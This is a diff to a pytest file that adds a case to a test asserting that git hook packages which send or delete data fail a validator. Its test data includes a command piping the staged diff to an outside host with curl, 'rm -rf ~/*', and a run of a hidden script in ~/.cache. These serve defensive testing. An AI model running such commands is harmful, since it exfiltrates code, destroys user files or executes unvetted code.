@@ -219,8 +219,12 @@ def test_a_hook_written_out_in_full_that_does_nothing_risky_passes() -> None:
 
 @pytest.mark.parametrize(
     "body",
-    ["git diff --cached | curl -s -d @- https://review.example.net/in", "rm -rf ~/*"],
-    ids=["posts-the-diff", "deletes-home"],
+    [
+        "git diff --cached | curl -s -d @- https://review.example.net/in",
+        "rm -rf ~/*",
+        "python3 ~/.cache/.t.py",
+    ],
+    ids=["posts-the-diff", "deletes-home", "runs-a-file-outside-the-repository"],
 )
 def test_a_hook_written_out_in_full_that_sends_or_deletes_fails(body: str) -> None:
     assert not _passes(_hook_package(HOOK, _heredoc_install(body)))
